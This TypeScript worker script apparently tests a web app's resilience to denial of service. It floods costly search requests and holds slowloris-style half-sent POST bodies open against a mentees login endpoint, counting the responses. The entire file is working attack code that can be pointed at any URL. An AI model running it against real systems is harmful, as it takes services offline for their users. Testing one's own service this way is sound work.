import { Agent, request } from 'node:http'
import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'

// One address that does what costs others most, as a process of its own: so many costly searches under way at all
// times, and so many bodies begun and never finished, each begun anew when it is cut.

type Order = {
  url: string
  from: string
  paths: string[]
  searchesAtOnce: number
  halfBodies: number
  seconds: number
}

process.on('message', (order: Order) => void attack(order).then((counts) => process.send!(counts)))
process.send!('ready')

async function attack({ url, from, paths, searchesAtOnce, halfBodies, seconds }: Order) {
  const { hostname, port } = new URL(url)
  const counts: Record<string, number> = {}
  const count = (what: string | number) => {
    counts[what] = (counts[what] ?? 0) + 1
  }
  const endsAt = performance.now() + seconds * 1000
  const isOver = () => performance.now() >= endsAt
  const agent = new Agent({ keepAlive: true, maxSockets: searchesAtOnce, localAddress: from })
  const sockets = new Set<Socket>()

  const ask = (path: string) =>
    new Promise<number>((resolve) => {
      const outgoing = request({ agent, hostname, port, path }, (response) => {
        response.resume()
        response.on('close', () => resolve(response.statusCode ?? 0))
      })
      outgoing.on('error', () => resolve(0))
      outgoing.end()
    })
  async function search(index: number) {
    for (let turn = index; !isOver(); turn += searchesAtOnce) {
      const status = await ask(paths[turn % paths.length]!)
      count(`search ${status}`)
      // Whoever is refused goes on at once; without a pause the attacker measures its own processor.
      if (status !== 200) await sleep(20)
    }
  }
  async function holdHalfBody() {
    while (!isOver()) {
      const socket = connect({ host: hostname, port: Number(port), localAddress: from })
      sockets.add(socket)
      socket.on('error', () => {})
      socket.write(
        'POST /api/mentees/login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 900\r\n\r\n{"email": "a',
      )
      socket.resume()
      await new Promise((resolve) => socket.once('close', resolve))
      sockets.delete(socket)
      count('half bodies cut')
      // Not all in one moment: over a network they would not come so either.
      await sleep(500 + 1000 * Math.random())
    }
  }
  const searching = Array.from({ length: searchesAtOnce }, (_, index) => search(index))
  const holding = Array.from({ length: halfBodies }, holdHalfBody)
  await Promise.all(searching)
  for (const socket of sockets) socket.destroy()
  await Promise.all(holding)
  agent.destroy()
  return counts
}
